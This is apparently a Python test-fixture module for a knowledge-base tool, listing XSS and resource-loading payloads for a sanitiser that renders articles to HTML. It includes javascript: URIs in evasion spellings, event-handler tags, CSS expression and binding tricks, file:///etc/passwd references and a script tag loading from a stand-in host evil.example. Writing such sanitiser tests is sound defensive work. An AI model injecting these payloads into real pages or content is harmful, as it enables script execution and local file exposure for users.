"""Attack payloads for every path that turns an article into HTML.

Written for kbdesk: the classic ways an HTML page runs script, loads a file
or a remote resource, or styles itself into a request, in the spellings a
sanitiser is known to miss (case, entities, control characters, Markdown
links, raw HTML, placeholders with markup inside).
"""

from __future__ import annotations

SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#x09;script:alert(1)", "java\tscript:alert(1)",
    "&#106;avascript:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd", "//evil.example/x.png", "\\\\evil\\share\\x.png", "/etc/passwd",
    "../../../../../../../../dev/zero", "qrc:/x.png", "ftp://evil.example/x",
]

RAW_HTML = [
    "<script>document.title='pwned'</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"../../../../../../../../dev/zero\">",
    "<img src=\"/dev/zero\">",
    "<img src=\"pic.png\" width=\"999999\" height=\"999999\">",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"file:///etc/passwd\"></object>",
    "<embed src=\"/dev/zero\">",
    "<link rel=stylesheet href=\"/dev/zero\">",
    "<style>@import url(/dev/zero); body{background:url(/dev/zero)}</style>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"file:///\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<div style=\"background-image:url(/dev/zero)\">背景</div>",
    "<table><tr><td style=\"text-align:url(/dev/zero)\">单元</td></tr></table>",
    "<table><tr><td style=\"text-align:expression(alert(1))\">单元</td></tr></table>",
    "<table><tr><td style=\"text-align:center;behavior:url(x.htc)\">单元</td></tr></table>",
    "<span style=\"-moz-binding:url(x.xml#x)\">绑定</span>",
    "<a href=\"javascript:alert(1)\" onmouseover=\"alert(2)\">链接</a>",
    "<a href=\" javascript:alert(1)\">前有空格</a>",
    "<p onclick=alert(1) class=kb-ph id=x>冒充占位符</p>",
    "<!--<img src=\"/dev/zero\">-->注释",
    "<img src=\"x.png\" srcset=\"/dev/zero 1x\">",
    "<video src=\"/dev/zero\" poster=\"/dev/zero\"></video>",
    "<audio src=\"file:///dev/zero\"></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><img src=/dev/zero></template>",
    "<noscript><img src=/dev/zero></noscript>",
]

MARKDOWN = [
    *(f"[链接]({s})" for s in SCHEMES),
    *(f"![图片]({s})" for s in SCHEMES),
    "[引用式][r]\n\n[r]: javascript:alert(1)",
    "![引用式图片][i]\n\n[i]: /dev/zero",
    "<javascript:alert(1)>",
    "<file:///etc/passwd>",
    "`<img src=/dev/zero>` 代码里的标签",
    "```html\n<script>alert(1)</script>\n```",
    "{{<img src=\"/dev/zero\">}} 占位符里的标签",
    "{{客户称呼|<script>alert(1)</script>}} 默认值里的脚本",
    "**粗体 <img src=/dev/zero>**",
    "| 列 |\n|---|\n| <img src=/dev/zero> |",
]

BODIES = RAW_HTML + MARKDOWN

# Front matter fields reach labels, tooltips, window titles and result rows.
FIELDS = [
    "退款 <img src=\"/dev/zero\">",
    "<b>粗体标题</b>",
    "<a href=\"file:///etc/passwd\">链接标题</a>",
    "<img src=pic.png>图片标题",
    "&lt;已转义&gt; & <i>斜体</i>",
]
